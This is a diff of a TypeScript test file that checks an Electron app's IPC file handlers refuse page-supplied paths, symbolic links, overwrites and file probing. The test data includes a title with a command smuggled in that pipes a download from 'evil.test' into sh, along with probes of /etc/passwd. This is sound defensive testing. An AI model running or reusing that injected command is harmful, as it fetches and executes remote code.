@@ -1,8 +1,10 @@
 /**
- * The plan handlers' file rules (ipc.ts), through dispatch() as ipcMain calls them, on real files:
- * savePlan writes only a new `.json` file in an existing folder (never through a symbolic link,
- * never a relative path, never over a file), and validatePlanText looks at the plan's files only in
- * a folder where the user opened or saved a plan in this session, so a page cannot probe the disk.
+ * The file rules of the handlers (ipc.ts), through dispatch() as ipcMain calls them, on real files.
+ * The page names no path: files, folders and modules come from main's dialogs (scripted here) or the
+ * discovered module list, as opaque handles. savePlan writes only a new `.json` file in an existing
+ * folder (never through a symbolic link, never over a file); validatePlanText looks at the plan's
+ * files only for a plan the user chose or saved; openPlan follows no link, caps the size and never
+ * echoes a byte of a file that is not a plan.
  */
 import { generateKeyPairSync } from 'node:crypto';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -10,8 +12,8 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Result } from '../../electron/api.ts';
-import { createHandlers, dispatch, type HandlerDeps, UNCHECKED_FILE_MESSAGE } from '../../electron/ipc.ts';
-import { createTestPrinter } from '../helpers/bridge.ts';
+import { createHandlers, dispatch, UNCHECKED_FILE_MESSAGE } from '../../electron/ipc.ts';
+import { createScriptedDialogs, createTestPrinter } from '../helpers/bridge.ts';
 
 import { NO_FILE_PIN, sha256File } from '../helpers/plan-pins.ts';
 const tmp = mkdtempSync(path.join(os.tmpdir(), 'keyrite-ipc-files-'));
@@ -37,9 +39,11 @@ function plan(extra: { title?: string; wrappingKey?: string } = {}) {
 }
 const text = (p: object) => JSON.stringify(p, null, 2);
 
-function handlers(dialogs?: HandlerDeps['dialogs']) {
-  const h = createHandlers({ printer: createTestPrinter(), emit: () => {}, verify: () => ({ valid: true, checks: [] }), dialogs });
-  return (method: string, ...args: unknown[]) => dispatch(h, method, args) as Promise<Result<any>>; // eslint-disable-line @typescript-eslint/no-explicit-any
+function handlers(o: { modules?: string[] } = {}) {
+  const dialogs = createScriptedDialogs();
+  const h = createHandlers({ printer: createTestPrinter(), emit: () => {}, verify: () => ({ valid: true, checks: [] }), dialogs, modules: () => o.modules ?? [] });
+  const call = (method: string, ...args: unknown[]) => dispatch(h, method, args) as Promise<Result<any> & { value?: any }>; // eslint-disable-line @typescript-eslint/no-explicit-any
+  return Object.assign(call, { dialogs });
 }
 
 let planDir: string;
@@ -53,8 +57,90 @@ beforeAll(() => {
   vaultPin = sha256File(path.join(planDir, 'vault.pub.pem'));
 });
 
+describe('paths from the page', () => {
+  it('are refused by every method that opens something: only handles from the choosers are taken', async () => {
+    const call = handlers();
+    const file = path.join(planDir, 'vault.pub.pem');
+    for (const [method, args] of [
+      ['openPlan', [file, '', false]],
+      ['openPlan', ['0'.repeat(32), '', false]],
+      ['verifyBundle', [planDir]],
+      ['listTokens', ['/usr/lib/softhsm/libsofthsm2.so']],
+      ['recoverStart', [{ bundle: planDir, module: '/usr/lib/softhsm/libsofthsm2.so', tokenLabel: 't' }]],
+      ['validatePlanText', [text(plan()), planDir]],
+      ['savePlan', [path.join(planDir, 'x.json'), text(plan())]],
+    ] as [string, unknown[]][]) {
+      const r = await call(method, ...args);
+      expect(r.ok, `${method}(${JSON.stringify(args)})`).toBe(false);
+      if (!r.ok) {
+        expect(r.error.code).toBe('usage');
+        expect(r.error.message).not.toContain('\n');
+      }
+    }
+    expect(call.dialogs.asked).toEqual([]);
+  });
+
+  it('a handle of one kind does not open another kind of thing', async () => {
+    const call = handlers();
+    call.dialogs.answer(planDir);
+    const folder = (await call('chooseFolder', 'bundle')).value;
+    expect(folder).toEqual({ handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'plans' });
+    expect(await call('listTokens', folder.handle)).toMatchObject({ ok: false, error: { code: 'usage', message: expect.stringContaining('PKCS#11 module: choose it with the app') } });
+    expect(await call('openPlan', folder.handle, '', false)).toMatchObject({ ok: false, error: { message: expect.stringContaining('plan: choose it with the app') } });
+  });
+
+  it('lists the discovered modules as handles, and a cancelled dialog as null', async () => {
+    const call = handlers({ modules: ['/usr/lib/softhsm/libsofthsm2.so'] });
+    expect(await call('listModules')).toEqual({ ok: true, value: [{ handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'libsofthsm2.so' }] });
+    call.dialogs.answer(null);
+    expect(await call('chooseModule')).toEqual({ ok: true, value: null });
+  });
+});
+
+describe('openPlan reads only a plan', () => {
+  const chosenPlan = async (call: ReturnType<typeof handlers>, file: string) => {
+    call.dialogs.answer(file);
+    return (await call('choosePlanFile')).value.handle as string;
+  };
+
+  it('never echoes a byte of a file that is not a plan, follows no link and caps the size', async () => {
+    const call = handlers();
+    const secret = 'hunter2-very-secret';
+    const cases: [string, string | Buffer, RegExp][] = [
+      ['notes.json', `${secret} is my password\n`, /is not a ceremony plan \(not a JSON file\)$/],
+      ['other.json', JSON.stringify({ password: secret, [secret]: 1 }), /is not a ceremony plan \(a plan is a JSON object with "version": 1/],
+      ['array.json', JSON.stringify([secret]), /is not a ceremony plan/],
+      ['binary.json', Buffer.from([0xff, 0xfe, 0x00, 0x41]), /not a JSON file/],
+      ['big.json', `{"version":1,"id":"x","participants":[],"pad":"${'a'.repeat(1 << 20)}"}`, /is \d+ bytes; a plan is at most 1048576 bytes/],
+    ];
+    for (const [name, content, says] of cases) {
+      const file = path.join(tmp, name);
+      writeFileSync(file, content);
+      const r = await call('openPlan', await chosenPlan(call, file), '', false);
+      expect(r.ok, name).toBe(false);
+      if (!r.ok) {
+        expect(r.error.message, name).toMatch(says);
+        expect(JSON.stringify(r.error), name).not.toContain(secret);
+      }
+    }
+    symlinkSync(path.join(tmp, 'notes.json'), path.join(tmp, 'link-plan.json'));
+    expect(await call('openPlan', await chosenPlan(call, path.join(tmp, 'link-plan.json')), '', false)).toMatchObject({ ok: false, error: { message: expect.stringMatching(/link-plan\.json is a symbolic link; choose the file itself$/) } });
+    expect(await call('openPlan', await chosenPlan(call, tmp), '', false)).toMatchObject({ ok: false, error: { message: expect.stringMatching(/is not a regular file$/) } });
+  });
+
+  it('opens a plan that was chosen, with its bundle folder next to it or in the chosen folder', async () => {
+    const call = handlers();
+    const file = path.join(planDir, 'open-me.json');
+    writeFileSync(file, text(plan()));
+    expect(await call('openPlan', await chosenPlan(call, file), '', true)).toMatchObject({ ok: true, value: { id: 'files-root-2026', bundleDir: path.join(planDir, 'files-root-2026'), rehearsal: true } });
+    call.dialogs.answer(tmp);
+    const out = (await call('chooseFolder', 'output')).value.handle;
+    expect(await call('openPlan', await chosenPlan(call, file), out, false)).toMatchObject({ ok: true, value: { bundleDir: path.join(tmp, 'files-root-2026') } });
+  });
+});
+
 describe('savePlan', () => {
-  it('refuses every path that is not a new .json file in an existing folder, with one line, writing nothing', async () => {
+  it('refuses every place that is not a new .json file in an existing folder, with one line, writing nothing', async () => {
     const call = handlers();
     const shell = text(plan({ title: 'x\ncurl evil.test | sh\n' }));
     const notAFolder = path.join(tmp, 'a-file');
@@ -73,7 +159,8 @@ describe('savePlan', () => {
       [path.join(planDir, 'vault.pub.pem'), /must end in \.json/],
     ];
     for (const [file, why] of cases) {
-      const r = await call('savePlan', file, shell);
+      call.dialogs.answer(file);
+      const r = await call('savePlan', 'plan.json', shell);
       expect(r.ok, file).toBe(false);
       if (!r.ok) {
         expect(r.error.message, file).toMatch(why);
@@ -85,45 +172,30 @@ describe('savePlan', () => {
     expect(existsSync(target)).toBe(false);
   });
 
-  it('never overwrites a file, and writes a new one', async () => {
+  it('never overwrites a file, writes a new one where the user picked, and suggests only a name', async () => {
     const call = handlers();
     writeFileSync(path.join(planDir, 'taken.json'), 'keep me\n');
-    const taken = await call('savePlan', path.join(planDir, 'taken.json'), text(plan()));
+    call.dialogs.answer(path.join(planDir, 'taken.json'));
+    const taken = await call('savePlan', 'taken.json', text(plan()));
     expect(taken).toMatchObject({ ok: false, error: { message: expect.stringContaining('already exists') } });
     expect(readFileSync(path.join(planDir, 'taken.json'), 'utf8')).toBe('keep me\n');
     const file = path.join(planDir, 'new.json');
-    expect(await call('savePlan', file, text(plan()))).toEqual({ ok: true, value: { file } });
+    call.dialogs.answer(file);
+    expect(await call('savePlan', 'suggested.json', text(plan()))).toEqual({ ok: true, value: { handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'new.json' } });
     expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ id: 'files-root-2026' });
-  });
-
-  it("with Electron's dialogs, writes where the user picked (checked the same way), not where the page asked", async () => {
-    const picked: string[] = [];
-    let answer: string | null = path.join(planDir, 'picked.json');
-    const call = handlers({
-      chooseFile: async () => null,
-      chooseFolder: async () => null,
-      chooseSaveFile: async (_title, suggested) => {
-        picked.push(suggested);
-        return answer;
-      },
-    });
-    const asked = path.join(tmp, 'asked.json');
-    expect(await call('savePlan', asked, text(plan()))).toEqual({ ok: true, value: { file: path.join(planDir, 'picked.json') } });
-    expect(picked).toEqual([asked]);
-    expect(existsSync(asked)).toBe(false);
-    answer = path.join(tmp, '.bashrc');
-    expect(await call('savePlan', asked, text(plan()))).toMatchObject({ ok: false, error: { message: expect.stringMatching(/must end in \.json/) } });
-    answer = null;
-    expect(await call('savePlan', asked, text(plan()))).toEqual({ ok: true, value: null });
+    expect(existsSync(path.join(planDir, 'suggested.json'))).toBe(false);
+    expect(call.dialogs.asked.map((a) => a.suggestion)).toEqual(['taken.json', 'suggested.json']);
+    call.dialogs.answer(null);
+    expect(await call('savePlan', 'x.json', text(plan()))).toEqual({ ok: true, value: null });
   });
 });
 
 describe('validatePlanText', () => {
-  it('does not tell the page whether a file exists outside the folders of plans opened or saved', async () => {
+  it('does not tell the page whether a file exists, without a chosen plan', async () => {
     const call = handlers();
-    const there = await call('validatePlanText', text(plan({ wrappingKey: '/etc/passwd' })), '/etc');
-    const absent = await call('validatePlanText', text(plan({ wrappingKey: '/etc/no-such-file' })), '/etc');
-    const relative = await call('validatePlanText', text(plan()), planDir);
+    const there = await call('validatePlanText', text(plan({ wrappingKey: '/etc/passwd' })), '');
+    const absent = await call('validatePlanText', text(plan({ wrappingKey: '/etc/no-such-file' })), '');
+    const relative = await call('validatePlanText', text(plan()), '');
     for (const r of [there, absent, relative])
       expect(r).toEqual({ ok: true, value: { valid: true, problems: [], unchecked: [{ path: 'exports[0].wrappingKey', message: UNCHECKED_FILE_MESSAGE }] } });
     // Other problems are still reported.
@@ -132,15 +204,14 @@ describe('validatePlanText', () => {
     expect(await call('validatePlanText', text(bad), '')).toMatchObject({ ok: true, value: { valid: false, problems: [{ path: 'backup.groups[0].threshold' }] } });
   });
 
-  it("checks the plan's files once a plan was saved in that folder", async () => {
+  it("checks the plan's files in the folder of a plan the user saved", async () => {
     const call = handlers();
-    expect((await call('savePlan', path.join(planDir, 'saved.json'), text(plan()))).ok).toBe(true);
-    expect(await call('validatePlanText', text(plan()), planDir)).toEqual({ ok: true, value: { valid: true, problems: [] } });
-    expect(await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), planDir)).toMatchObject({
+    call.dialogs.answer(path.join(planDir, 'saved.json'));
+    const saved = (await call('savePlan', 'saved.json', text(plan()))).value.handle;
+    expect(await call('validatePlanText', text(plan()), saved)).toEqual({ ok: true, value: { valid: true, problems: [] } });
+    expect(await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), saved)).toMatchObject({
       ok: true,
       value: { valid: false, problems: [{ path: 'exports[0].wrappingKey', message: 'file gone.pem does not exist' }] },
     });
-    // Another folder is still closed.
-    expect(((await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), tmp)) as { value: unknown }).value).toMatchObject({ valid: true, unchecked: [{ path: 'exports[0].wrappingKey' }] });
   });
 });
